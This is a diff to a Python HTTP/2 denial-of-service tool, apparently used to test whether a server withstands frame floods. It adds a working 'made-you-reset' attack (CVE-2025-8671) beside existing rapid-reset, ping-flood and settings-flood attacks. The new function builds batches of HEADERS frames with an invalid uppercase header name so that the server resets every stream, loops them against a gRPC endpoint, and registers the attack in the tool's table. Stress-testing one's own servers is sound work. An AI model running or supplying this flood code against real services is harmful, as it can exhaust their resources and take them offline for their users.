@@ -15,6 +15,8 @@ close, throttled, refused, status:N), 1 otherwise.
 
 Attacks:
   rapid-reset         HEADERS + RST_STREAM(CANCEL) in a loop (CVE-2023-44487)
+  made-you-reset      HEADERS + WINDOW_UPDATE(0) on the stream, which the server must reset,
+                      in a loop (CVE-2025-8671)
   ping-flood          PING frames in a loop
   settings-flood      SETTINGS frames in a loop
   empty-data          one open stream, then empty DATA frames in a loop
@@ -261,6 +263,17 @@ def a_rapid_reset(c, stop):
     flood(c, stop, batch, 100)
 
 
+def a_made_you_reset(c, stop):
+    """The server resets the streams itself (CVE-2025-8671): requests whose header list
+    holds a field name in capitals, a stream error, in a loop."""
+    block = request_pseudo(b"/wiresync.v1.WireSync/Keys") + literal(b"X-Bad", b"1")
+
+    def batch():
+        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, c.new_sid(), block)
+                        for _ in range(100))
+    flood(c, stop, batch, 100)
+
+
 def a_ping_flood(c, stop):
     flood(c, stop, lambda: b"".join(frame(PING, 0, 0, os.urandom(8)) for _ in range(100)), 100)
 
@@ -374,6 +387,7 @@ def a_window(c, stop):
 
 ATTACKS = {
     "rapid-reset": a_rapid_reset,
+    "made-you-reset": a_made_you_reset,
     "ping-flood": a_ping_flood,
     "settings-flood": a_settings_flood,
     "empty-data": a_empty_data,
